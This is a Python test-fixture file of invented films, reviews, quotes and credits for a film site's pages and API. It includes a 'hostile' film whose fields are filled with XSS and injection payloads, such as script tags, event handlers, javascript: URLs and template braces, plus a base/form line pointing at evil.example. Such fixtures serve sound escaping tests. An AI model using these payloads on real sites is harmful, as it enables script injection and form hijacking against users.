"""Invented films for the tests of the pages and the API: one passage of every kind, and one hostile film."""

from corpus.records import Film, Kind, Line, Passage, quote_text, with_passage_id

HARBOUR, ANGELS, HOSTILE = "tt0900001", "tt0900002", "tt0900003"

FILMS = (
    Film(
        film_id=HARBOUR,
        title="Harbour Lights",
        original_title="Les Feux du port",
        year=1954,
        release_date="1954-03-09",
        release_country="France",
        runtime=96,
        certificate="PG",
        genres=("Drama", "Film Noir"),
        countries=("France",),
        languages=("French", "English"),
        rating=7.5,
        votes=48211,
        metascore=71,
        alternate_titles=("Hafenlichter",),
        directors=("Odile Marchetti",),
        writers=('Ivo "Bosun" Tarn',),
        stars=("Lena Quist",),
    ),
    Film(film_id=ANGELS, title="Café des Anges", year=1988, genres=("Comedy",), rating=5.0),
)

LINES = (
    Line(speaker="Vera", text="The lamp went out."),
    Line(text="[She strikes a match.]"),
    Line(speaker="Joost", text="Then who is signalling?"),
)


def of(film_id: str, kind: Kind, text: str, **fields: object) -> Passage:
    """Return a passage with its id."""
    return with_passage_id(Passage(film_id=film_id, kind=kind, text=text, **fields))


REVIEW = of(
    HARBOUR,
    Kind.REVIEW,
    "A lighthouse, a liar and a lamp.\n\nI left the cinema seasick.",
    heading="Salt in every frame",
    author="mopboy",
    rating=8.0,
    date="2003-05-07",
    helpful=12,
    helpful_of=15,
)
QUOTE = of(HARBOUR, Kind.QUOTE, quote_text(LINES), lines=LINES)
SPOILER = of(
    HARBOUR, Kind.PLOT, "The keeper himself is the smuggler, and the lamp is his signal.", spoiler=True
)
FRENCH = of(
    HARBOUR, Kind.REVIEW, "Un phare, un menteur et une lampe admirable.", language="fr", author="mouette"
)
TO_ANGELS = of(
    HARBOUR,
    Kind.CONNECTION,
    "Referenced in Café des Anges (1988), on a poster.",
    relation="referenced in",
    other_film="Café des Anges (1988)",
    other_film_id=ANGELS,
)
TO_UNKNOWN = of(
    HARBOUR, Kind.CONNECTION, "Remake of Tide (1931)", relation="remake of", other_film="Tide (1931)"
)
ACTOR = of(
    HARBOUR,
    Kind.CREDIT,
    "Lena Quist as Vera",
    person="Lena Quist",
    role="actor",
    character="Vera",
    credited_as="L. Quist",
)
SONG = of(
    HARBOUR,
    Kind.SOUNDTRACK,
    "Foghorn Waltz\nWritten by Ada Brook",
    heading="Foghorn Waltz",
    writers=("Ada Brook",),
    performers=("The Buoys",),
)
QUESTION = of(HARBOUR, Kind.FAQ, "Is the lighthouse real?\n\nIt was, until the storm of 1957.")

PASSAGES = (
    of(HARBOUR, Kind.PLOT, "A stoker signs on at a lighthouse where nobody has seen the keeper."),
    SPOILER,
    REVIEW,
    FRENCH,
    QUOTE,
    of(HARBOUR, Kind.DIALOGUE, "Vera: Row.", lines=(Line(speaker="Vera", text="Row."),), start=3727.0),
    of(HARBOUR, Kind.TRIVIA, "The lighthouse was built of plywood."),
    of(HARBOUR, Kind.GOOF, "The lamp is lit before she lights it.", category="continuity"),
    of(HARBOUR, Kind.GOOF, "No ferry ran in 1911.", category="factual errors"),
    of(HARBOUR, Kind.CREDIT, "Odile Marchetti, director", person="Odile Marchetti", role="director"),
    ACTOR,
    SONG,
    TO_ANGELS,
    TO_UNKNOWN,
    QUESTION,
    of(HARBOUR, Kind.TAGLINE, "Nobody rows home."),
    of(HARBOUR, Kind.ALTERNATE_VERSION, "The Dutch print lacks the foghorn."),
    of(HARBOUR, Kind.CRAZY_CREDIT, "The gulls are credited one by one."),
    of(HARBOUR, Kind.KEYWORD, "lighthouse"),
    of(HARBOUR, Kind.LOCATION, "Den Helder, Netherlands"),
    of(HARBOUR, Kind.COMPANY, "Marchetti Frères (production)"),
    of(HARBOUR, Kind.VIDEO, "Two minutes of fog.", heading="Trailer"),
    *(of(ANGELS, Kind.TRIVIA, f"Spoon number {number} was bent by hand.") for number in range(1, 26)),
)

# Markup of many sorts, entities half written, quotation marks that would end an attribute, addresses.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</mark></p><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">zeppelin</a>',
    "<!-- --!><iframe srcdoc='<script>alert(1)</script>'>",
    "<![CDATA[<math><mtext></table></mtext></math>]]>",
    "&lt;b&gt;zeppelin&lt;/b&gt; &amp;amp; &#60;i&#62; &nbsp",
    "{{ 7 * 7 }} {% raw %} {# #}",
    "<style>@import '//x'</style><link rel=stylesheet href=//x>",
    "<base href='//evil.example/'><form action=//evil.example><input name=q>",
    "<details open ontoggle=alert(1)>",
    "<plaintext><textarea></noscript><xmp>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
CONTROLS = "".join(map(chr, (*range(9), 11, 12, *range(14, 32), *range(127, 160))))
HOSTILE_TEXT = " zeppelin ".join(PAYLOADS)


def hostile_records() -> list[Film | Passage]:
    """Return a film whose every text is hostile, and its passages, one of every kind."""
    evil = HOSTILE_TEXT + CONTROLS
    word = PAYLOADS[0] + CONTROLS
    film = Film(
        film_id=HOSTILE,
        title=f"{word} zeppelin",
        original_title=evil,
        year=1999,
        release_date=word,
        release_country=word,
        certificate=word,
        genres=(PAYLOADS[0], PAYLOADS[3]),
        countries=(evil,),
        languages=(evil,),
        alternate_titles=(evil,),
        directors=(evil,),
        writers=(evil,),
        stars=(evil,),
    )
    fields = {
        "heading": word,
        "author": word,
        "category": word,
        "person": word,
        "role": word,
        "character": word,
        "credited_as": word + "2",
        "relation": word,
        "other_film": word,
        "other_film_id": '"><script>alert(1)<',
        "date": word,
    }
    passages = [
        Passage(
            film_id=HOSTILE,
            kind=kind,
            text=f"{evil} {kind.value}",
            passage_id=f'{HOSTILE}.{kind.value}."><script>',
            language='fr"><script>' if kind is Kind.REVIEW else "",
            lines=(Line(speaker=word, text=evil), Line(text=evil)) if kind is Kind.QUOTE else (),
            performers=(word,),
            writers=(word,),
            spoiler=kind is Kind.PLOT,
            **fields,
        )
        for kind in Kind
        if kind is not Kind.FILM
    ]
    return [film, *passages]
